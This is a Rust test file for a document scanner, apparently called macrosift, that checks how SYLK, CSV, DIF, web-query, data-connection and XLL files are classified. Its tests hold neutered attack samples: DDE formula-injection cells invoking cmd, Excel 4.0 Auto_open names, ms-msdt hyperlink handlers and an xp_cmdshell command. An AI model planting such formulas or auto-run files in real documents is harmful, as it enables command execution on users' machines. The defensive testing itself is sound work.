//! Sheets, queries and cells in text.

use std::fmt::Write as _;

use macrosift::report::Coverage;
use macrosift::{Limit, Limits, Scanner, Verdict};

use super::Row;

fn formats(bytes: &[u8]) -> (&'static str, Verdict) {
    let report = Scanner::new().scan(bytes);
    (report.format(), report.verdict())
}

const SYLK: &str = "ID;PWXL;N;E\r\nP;PGeneral\r\nC;Y1;X1;K\"INERT TEST DOCUMENT\"\r\n";

#[test]
fn a12_plain_sylk() {
    assert_eq!(
        formats(format!("{SYLK}C;X2;K-3\r\nE\r\n").as_bytes()),
        ("slk", Verdict::Clean)
    );
}

#[test]
fn a12_macro_sheet() {
    let text = SYLK.replace("C;", "O;L;E;D;V0;K47\r\nC;");
    Row::new(
        format!("{text}NN;NAuto_open;ER1C1\r\nC;Y2;X1;EHALT()\r\nE\r\n"),
        Verdict::Suspicious,
    )
    .coverage(Coverage::Partial)
    .says("Excel 4.0")
    .check();
}

#[test]
fn a12_auto_name_alone() {
    let text = "ID;P\r\nNN;NAuto_OpenInert;ER1C1\r\nC;Y2;X1;EHALT()\r\nC;X2;K\"INERT TEST DOCUMENT\"\r\nE\r\n";
    Row::new(text, Verdict::Suspicious)
        .coverage(Coverage::Partial)
        .check();
}

#[test]
fn a12_dde_in_a_cell() {
    let text = "ID;P\r\nC;Y1;X1;K0;Einert|'/c inert;;x'!A0\r\n";
    let report = Row::new(format!("{text}{SYLK}E\r\n"), HELD).check();
    assert!(
        report
            .findings()
            .iter()
            .any(|one| one.text == "inert|'/c inert;x'!A0")
    );
}

#[test]
fn a13_dde_cells() {
    let rest = "\nINERT TEST DOCUMENT,1,2\n".repeat(8);
    for cell in [
        "=inert|'/c inert'!A0",
        "+inert|'/c inert'!A0",
        "-2+3+inert|'/c inert'!A0",
        "@SUM(1+1)*inert|'/c inert'!A0",
        "1,\"=inert|'/c inert'!A0\"",
        "a;b;  =inert|'/c inert'!A0",
        "\t=inert|'/c inert'!A0",
        "\"\t=inert|'/c inert'!A0\"",
        "＝inert|'/c inert'!A0",
        "=  cmd | '/c inert' ! A0",
        "=1+IF(1,cmd|'/c inert'!A0)",
        "+cmd|topic!item",
        "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c inert'!''",
        "=DDE(\"cmd\";\"/c inert\";\"x\")",
    ] {
        let text = format!("{cell}{rest}");
        assert_eq!(formats(text.as_bytes()), ("csv", HELD), "{cell}");
    }
    let text = format!("a,\"=inert|'/c inert'!A0\"{rest}");
    Row::new(text, HELD).rules(&["dde.formula"]).check();
}

#[test]
fn a13_dde_with_a_program_of_no_known_name() {
    for cell in [
        "=inert|topic!item",
        "-2+3+inert|topic!item",
        "+inert|'topic'!item",
    ] {
        let text = format!("{cell}\nINERT TEST DOCUMENT,1,2\n");
        let report = Scanner::new().scan(text.as_bytes());
        assert_eq!(report.verdict(), Verdict::Suspicious, "{cell}");
        assert_eq!(report.findings()[0].rule, "dde.formula-unknown");
    }
}

#[test]
fn a13_zeros_and_a_separator_of_its_own() {
    let rest = "\nINERT TEST DOCUMENT,1,2\n".repeat(8);
    let cell = "=inert|'/c inert'!A0";
    for text in [
        format!("a,b\0\r\n{cell}{rest}"),
        format!("\0{cell}{rest}"),
        format!("sep=^\r\na^{cell}^b{rest}"),
        // UTF-16 without its mark.
        format!("a\tb\r\n{cell}{rest}")
            .chars()
            .flat_map(|c| [c, '\0'])
            .collect(),
    ] {
        assert_eq!(formats(text.as_bytes()), ("csv", HELD), "{text:?}");
    }
}

#[test]
fn a13_clicks_by_their_scheme() {
    let text =
        |target: &str| format!("a,\"=HYPERLINK({target},\"\"x\"\")\"\nINERT TEST DOCUMENT\n");
    for target in [
        "\"\"ms-msdt:/id inert\"\"",
        "\"\"ms-\"\"&\"\"msdt:/id inert\"\"",
        "CONCATENATE(\"\"search-\"\",\"\"ms:inert\"\")",
    ] {
        let report = Scanner::new().scan(text(target).as_bytes());
        assert_eq!(report.verdict(), Verdict::Suspicious, "{target}");
        assert_eq!(report.findings()[0].rule, "external.hyperlink-handler");
    }
}

#[test]
fn a13_dde_cell_in_utf_16() {
    let text = format!(
        "\u{FEFF}=inert|'/c inert'!A0{}",
        "\nINERT TEST DOCUMENT".repeat(8)
    );
    let wide: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
    Row::new(wide, HELD).rules(&["dde.formula"]).check();
    let wide: Vec<u8> = text.encode_utf16().flat_map(u16::to_be_bytes).collect();
    assert_eq!(formats(&wide), ("csv", HELD));
}

#[test]
fn a13_dde_cell_in_shift_jis() {
    // 請求書, and a wide sign for the formula.
    let text = [
        &b"\x90\xbf\x8b\x81\x8f\x91,\x81\x81inert|'/c inert'!A0"[..],
        &b"\r\nINERT TEST DOCUMENT".repeat(8),
    ];
    Row::new(text.concat(), HELD).check();
}

#[test]
fn a13_dif() {
    let text = "TABLE\n0,1\n\"INERT TEST DOCUMENT\"\nDATA\n0,0\n\"\"\n-1,0\nBOT\n1,0\n\"=inert|'/c inert'!A0\"\n-1,0\nEOD\n";
    let report = Scanner::new().scan(text.as_bytes());
    assert_eq!((report.format(), report.verdict()), ("dif", HELD));
}

#[test]
fn a13_formulas_that_fetch() {
    let text = "=WEBSERVICE(\"http://example.invalid/?\"&A1)\nINERT TEST DOCUMENT\n".repeat(4);
    Row::new(text, Verdict::Suspicious).check();
    let link = "=HYPERLINK(\"http://example.invalid/\",\"x\")\nINERT TEST DOCUMENT\n";
    assert!(formats(link.as_bytes()).1 <= Verdict::Macro);
}

#[test]
fn a13_in_a_listing() {
    let text = format!(
        "=inert|'/c inert'!A0\n{}",
        "Sub A()\nIf Now > 0 Then Exit Sub\nEnd Sub\n".repeat(4)
    );
    let report = Scanner::new().scan(text.as_bytes());
    assert!(report.verdict() >= HELD, "{:#?}", report.reasons());
}

#[test]
fn a13_ordinary_texts_are_of_no_concern() {
    for text in [
        "name,amount\nA,-12.5\nB,+3\nC,@home\n",
        "a | b\n--- | ---\n-1 | x!\n| - | =x |\n",
        "- run: cat a|grep b!\n- name: \"x|y!z\"\n",
        "--- a/x.c\n+++ b/x.c\n@@ -1 +1 @@\n-a|b!c\n+  x = y | z!q;\n+if (a||!b)\n",
        "| a | b! |\n|---|---|\n| -a|b!c | =x|'y'! |\n- [x] a|b!c\n",
        "- yes|no\n- one thing|two things!three\n+ a|b\n",
        "To: a|b@example.invalid; -c|d\n",
        "diff\n-exec(\"x\")\n+call(y) | z!\n",
        "=====\n\"=\"|\"x\"\n",
    ] {
        assert_eq!(formats(text.as_bytes()), ("text", Verdict::Other), "{text}");
    }
}

#[test]
fn a14_web_query() {
    let text = "WEB\r\n1\r\nhttp://example.invalid/inert.txt\r\n\r\nSelection=EntirePage\r\nFormatting=All\r\n";
    let report = Row::new(text, Verdict::Suspicious).check();
    assert_eq!(report.format(), "iqy");
    for other in [r"\\example.invalid\share", "http://192.0.2.1"] {
        let text = text.replace("http://example.invalid", other);
        assert_eq!(formats(text.as_bytes()), ("iqy", Verdict::Suspicious));
    }
}

#[test]
fn a14_web_query_without_a_head() {
    let text = "http://example.invalid/inert.txt\r\nSelection=EntirePage\r\n";
    assert_eq!(formats(text.as_bytes()), ("iqy", Verdict::Suspicious));
    let named = Scanner::new().scan_named(b"http://example.invalid/inert", "a.iqy");
    assert_eq!(named.verdict(), Verdict::Suspicious);
}

#[test]
fn a14_database_queries() {
    for (text, format) in [
        (
            "XLODBC\r\n1\r\nDRIVER=SQL Server;SERVER=example.invalid;UID=inert\r\nSELECT 1\r\n",
            "dqy",
        ),
        (
            "QueryType=OLEDB\r\nVersion=1\r\nConnection=Provider=x;Data Source=example.invalid\r\nCommandText=inert\r\n",
            "rqy",
        ),
        (
            "QueryType=OLAP\r\nVersion=1\r\nConnection=Provider=x;Data Source=example.invalid\r\nCommandText=inert\r\n",
            "oqy",
        ),
    ] {
        let report = Scanner::new().scan(text.as_bytes());
        assert_eq!(report.format(), format);
        assert!(
            report
                .findings()
                .iter()
                .any(|one| one.text.contains("example.invalid")),
            "{text}"
        );
    }
}

/// A data connection as Excel writes one.
fn connection(said: &str) -> String {
    format!(
        "<html xmlns:o=\"urn:schemas-microsoft-com:office:office\">\r\n<head>\r\n\
         <meta http-equiv=Content-Type content=\"text/x-ms-odc; charset=utf-8\">\r\n\
         <meta name=ProgId content=ODC.Table>\r\n<title>INERT TEST DOCUMENT</title>\r\n\
         <xml id=msodc><odc:OfficeDataConnection\r\n  xmlns:odc=\"urn:schemas-microsoft-com:office:odc\">\r\n\
         {said}\r\n</odc:OfficeDataConnection></xml></head><body onload='init()'>\r\n\
         <script language='javascript'>function init() {{ try {{\r\n\
         document.getElementById(\"tdName\").innerText = unescape(location.href);\r\n\
         var s = document.getElementById(\"docprops\").innerHTML;\r\n\
         var i = s.indexOf(\"escription>\"); }} catch(e) {{ }} }}</script></body></html>"
    )
}

fn asks(string: &str, command: &str) -> String {
    format!(
        "<odc:Connection odc:Type=\"OLEDB\"><odc:ConnectionString>{string}</odc:ConnectionString>\
         <odc:CommandType>SQL</odc:CommandType><odc:CommandText>{command}</odc:CommandText>\
         </odc:Connection>"
    )
}

#[test]
fn a14_data_connection() {
    let local = asks("Provider=SQLOLEDB;Data Source=server", "SELECT 1");
    let queries = "<odc:PowerQueryMashupData>&lt;Mashup&gt;&lt;Formula&gt;&lt;![CDATA[let a = \
                   Web.Contents(&quot;https://example.invalid/&quot;) in a]]&gt;&lt;/Formula&gt;\
                   </odc:PowerQueryMashupData>";
    for (said, verdict, rule) in [
        (local, Verdict::Macro, "external.connection-local"),
        (
            asks(
                "\r\nProvider=x;Data&#32;Source=\\\\example.invalid\\a.mdb",
                "Model",
            ),
            Verdict::Suspicious,
            "external.connection",
        ),
        (
            asks(
                "Provider=MSDASQL;Initial Catalog=//example.invalid@80/a/b.accdb;",
                "{CALL Q1}",
            ),
            Verdict::Suspicious,
            "external.connection",
        ),
        (
            asks("Provider=x;Data Source=y", "EXEC xp_cmdshell 'inert'"),
            Verdict::Suspicious,
            "external.connection-command",
        ),
        (
            queries.to_owned(),
            Verdict::Suspicious,
            "external.connection",
        ),
    ] {
        let report = Scanner::new().scan(connection(&said).as_bytes());
        assert_eq!(
            (report.format(), report.verdict()),
            ("odc", verdict),
            "{said}"
        );
        assert!(
            report.findings().iter().any(|one| one.rule == rule),
            "{said}"
        );
    }
    let other = connection("").replace("catch(e) {", "catch(e) { eval(i);");
    assert_eq!(formats(other.as_bytes()).1, Verdict::Unscannable);
}

#[test]
fn a14_data_connection_without_a_page() {
    let said = asks("Provider=x;Data Source=\\\\example.invalid\\a.mdb", "");
    let bare = format!("<odc:OfficeDataConnection xmlns:odc='x'>{said}</odc:OfficeDataConnection>");
    for text in [
        bare.clone(),
        format!("<xml id=msodc>{bare}</xml>"),
        format!("<?xml version='1.0'?>\r\n{bare}"),
    ] {
        assert_eq!(
            formats(text.as_bytes()),
            ("odc", Verdict::Suspicious),
            "{text}"
        );
    }
}

fn program(names: &[u8]) -> Vec<u8> {
    let mut bytes = b"MZ\x90\0".to_vec();
    bytes.resize(0x3C, 0);
    bytes.extend([0x40, 0, 0, 0]);
    bytes.extend(b"PE\0\0");
    bytes.extend(names);
    bytes.resize(2048, 0);
    bytes
}

#[test]
fn a15_xll() {
    let report = Row::new(program(b"inert.dll\0xlAutoClose\0xlAutoOpen\0"), HELD).check();
    assert_eq!(report.format(), "xll");
    assert_eq!(formats(&program(b"inert.dll\0DllMain\0")).1, Verdict::Other);
}

#[test]
fn a15_wll() {
    let report = Row::new(program(b"inert.dll\0wdAutoOpen\0"), HELD).check();
    assert_eq!(report.format(), "wll");
}

/// A long text is passed over once, whatever is in it.
#[test]
fn hostile_texts_cost_their_length() {
    let cells = "=a|b!c,".repeat(20_000);
    let open = format!("=\"{}", "a|'b ".repeat(20_000));
    let calls = "=A(".repeat(20_000) + "WEBSERVICE(";
    let bars = "=inert|'".repeat(20_000);
    let mut names = String::from("ID;P\n");
    for at in 0..20_000 {
        let _ = writeln!(names, "C;X{at};E inert|'x'!A;;;EWEBSERVICE(\"a\")");
    }
    for text in [cells, open, calls, bars, names] {
        let limits = Limits::mail().with(Limit::Steps, text.len() as u64);
        let started = std::time::Instant::now();
        let report = Scanner::builder()
            .limits(limits)
            .build()
            .scan(text.as_bytes());
        assert!(report.verdict() >= Verdict::Other);
        assert!(
            started.elapsed().as_secs() < 20,
            "{}",
            text.get(..20).unwrap()
        );
    }
}

/// What a program that is started, or a file that is one, comes to.
const HELD: Verdict = Verdict::Malicious;
